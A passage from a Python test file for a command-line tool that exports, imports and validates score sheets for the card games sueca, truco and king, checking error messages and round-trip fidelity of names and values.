            SUECA,
            {"G6": 2},
            (),
            "Mesa2 R1!G6: '2' is typed over the formula of 'Ganhos', which the ficha computes and does "
            "not read: clear the cell",
        ),
        (
            TRUCO,
            {"G6": 2},
            (),
            "Mesa1 R1!G6: '2' is typed over the formula of 'Jogo', which the ficha computes and does "
            "not read: clear the cell",
        ),
        (
            SUECA,
            {"F21": 70, "K21": 50},
            (),
            "Mesa2 R1!F21: '70' is typed below the ficha's numbered rows, where nothing "
            "is read: each entry has a numbered row (a row's number is in column A)",
        ),
        (
            SUECA,
            {"B32": "renuncia", "C32": "Eles"},
            (),
            "Mesa2 R1!C32: 'Eles' is typed below the ficha's numbered rows, "
            "where nothing is read: each entry has a numbered row (a row's "
            "number is in column A)",
        ),
        (
            TRUCO,
            {"B28": "Nos"},
            (),
            "Mesa1 R1!B28: 'Nos' is typed below the ficha's numbered rows, where nothing is read: "
            "each entry has a numbered row (a row's number is in column A)",
        ),
        (
            SUECA,
            {"BZ3": "x"},
            (),
            "Mesa2 R1!BZ3: a value is typed here, beyond what a boletim uses (BH1000): nothing "
            "there is read; move it into the table or clear it",
        ),
    ],
)
def test_a_ficha_cell_that_cannot_be_read_is_refused_at_it(tmp_path, example, cells, merge, line):
    out = exported_with(tmp_path, example, cells, merge)
    for args in (("check", out), ("import", out, "-o", "-")):
        result = run(*args)
        assert (result.exit_code, result.stderr) == (2, f"Error: {out}:{line}\n"), args[0]


def test_a_standing_typed_over_its_formula_is_still_read_as_a_claim(tmp_path):
    out = exported_with(tmp_path, SUECA, {"I8": 2})  # deal 3: the moca stands at Nos 3, Eles 1
    assert run("check", out).output.splitlines()[0] == (
        f"{out}:Mesa2 R1!I8: error [S-PONT4-MOCA-DIFFERS]: deal 3: the sheet shows Nos 2; the moca stands at Nos 3 "
        "[Pontuação 4]"
    )


def test_a_team_s_player_holding_a_comma_is_refused_at_export(tmp_path):
    sheet = tmp_path / "s.yaml"
    sheet.write_text(
        "rules: sueca\nteams: {Nos: ['Silva, Jr', Bruno], Eles: [Carla, Duarte]}\ndeals: []\n", encoding="utf-8"
    )
    result = run("export", sheet, "-o", tmp_path / "s.xlsx")
    assert (result.exit_code, result.output) == (
        2,
        f"Error: {sheet}:1: cannot export: teams: 'Nos': the ficha writes a team's players in one cell, separated "
        "by commas, and 'Silva, Jr' would read back as two\n",
    )
    assert not (tmp_path / "s.xlsx").exists()


def test_a_player_or_team_named_like_a_header_label_is_a_name(tmp_path):
    # a name over the columns (row 4) is never a header's label: "Evento" is a player, not the event
    sheet = tmp_path / "k.yaml"
    sheet.write_text(
        "rules: king\nplayers: [Evento, Bruno, Mesa, Duarte]\nscorer: Mesa\nevent: Ronda\nround: 2\n"
        "hands:\n  - {hand: vazas, counts: [3, 3, 3, 4]}\n",
        encoding="utf-8",
    )
    out = tmp_path / "k.xlsx"
    assert run("export", sheet, "-o", out).exit_code == 0
    back = run("import", out, "-o", "-").stdout
    # an event named Ronda is the event; the table left empty is not the round's 2; the scorer is Mesa
    assert back.splitlines()[1:6] == [
        "players: [Evento, Bruno, Mesa, Duarte]",
        "scorer: Mesa",
        "event: Ronda",
        "round: 2",
        "hands:",
    ]


def _team_round_trip(tmp_path, text):
    sheet, out, back = tmp_path / "t.yaml", tmp_path / "t.xlsx", tmp_path / "back.yaml"
    sheet.write_text(text, encoding="utf-8")
    exported = run("export", sheet, "-o", out)
    if exported.exit_code:
        return sheet, exported.output, None
    assert run("import", out, "-o", back).exit_code in (0, 1)
    return sheet, _said(run("check", sheet).output, sheet), back


def _said(output: str, path) -> list[str]:
    """check's lines without their file and line: what is said, wherever."""
    return [re.sub(rf"^{re.escape(str(path))}(:\d+)?: ", "", line) for line in output.splitlines()]


TEAMS = "teams: {Nos: [Ana, Bruno], Eles: [Carla, Duarte]}\n"


@pytest.mark.parametrize(
    "text",
    [
        "rules: sueca\n" + TEAMS + "deals:\n  - {points: {Nos: 72}}\n",  # Eles's points left out: a finding
        "rules: sueca\n" + TEAMS + "deals:\n  - {points: [72, 48], standing: {Eles: 1}}\n",
        "rules: sueca\n" + TEAMS + "deals:\n  - {penalty: renuncia, team: Eles, points: [30, 90]}\n",
        "rules: truco\n" + TEAMS + "hands:\n  - {winner: Nos, score: {Nos: 1}}\n",
        "rules: truco\n" + TEAMS + "hands:\n  - {penalty: olhar-baralho, team: Eles, winner: Nos}\n",
    ],
)
def test_every_value_a_team_entry_writes_comes_back(tmp_path, text):
    # issue 16: a row's cells were read by its kind: points on a penalty row, a winner beside an
    # Ocorrência, one team's standing were dropped
    sheet, checked, back = _team_round_trip(tmp_path, text)
    assert back.read_text().splitlines()[-1] == text.splitlines()[-1]
    assert _said(run("check", back).output, back) == checked


@pytest.mark.parametrize(
    "text, why",
    [
        (
            "rules: sueca\n" + TEAMS + "deals:\n  - {points: [72, 48, 0]}\n",
            "deal 1: points: 3 values for 2 teams: the ficha has one cell for each",
        ),
        (
            "rules: sueca\n" + TEAMS + "deals:\n  - {points: {Nos: 72, Zeca: 48}}\n",
            "deal 1: points: 'Zeca' is not a team at this table, and the ficha has a column for each team only",
        ),
        (
            "rules: truco\n" + TEAMS + "hands:\n  - {void: xyz}\n",
            "hand 1: void: the ficha writes a void as anulada, which reads back as misdeal, not 'xyz'",
        ),
        (
            "rules: truco\n" + TEAMS + "hands:\n  - {mao_de_onze: xyz, team: Nos}\n",
            "hand 1: mao_de_onze: the ficha writes a declined mao de onze as recusada, which reads back as declined, not "
            "'xyz'",
        ),
        (
            "rules: truco\n" + TEAMS + "hands:\n  - {void: misdeal, penalty: olhar-baralho, team: Nos}\n",
            "hand 1: void and penalty: a hand's row has one Ocorrência",
        ),
    ],
)
def test_what_a_ficha_has_no_cell_for_is_refused_at_export(tmp_path, text, why):
    sheet, output, back = _team_round_trip(tmp_path, text)
    assert (back, output) == (None, f"Error: {sheet}:4: cannot export: {why}\n")


def test_an_all_tricks_mark_that_is_not_yes_is_refused_at_its_cell(tmp_path):
    out = exported_with(tmp_path, SUECA, {"E6": "não"})
    assert run("check", out).stderr == (
        f"Error: {out}:Mesa2 R1!E6: 'não': this column says 'sim' when a team took "
        "all the tricks, and is empty otherwise\n"
    )


def test_names_that_read_as_numbers_come_back_as_names(tmp_path):
    # a header's number is written as a number (table 3): one that would not read back as the same
    # text (a scorer named 00, an event 007) stays text
    sheet = tmp_path / "k.yaml"
    sheet.write_text(
        "rules: king\nplayers: ['3', '00', '1.0', 'null']\nscorer: '00'\nevent: '007'\ntable: 3\n"
        "hands:\n  - {hand: festa, beneficiary: '00', contract: 4-3-3-3}\n",
        encoding="utf-8",
    )
    out = tmp_path / "k.xlsx"
    assert run("export", sheet, "-o", out).exit_code == 0
    assert run("import", out, "-o", "-").stdout.splitlines()[1:] == [
        "players: ['3', '00', '1.0', 'null']",
        "scorer: '00'",
        "event: '007'",
        "table: 3",
        "hands:",
        "  - {hand: festa, beneficiary: '00', contract: 4-3-3-3}",
    ]
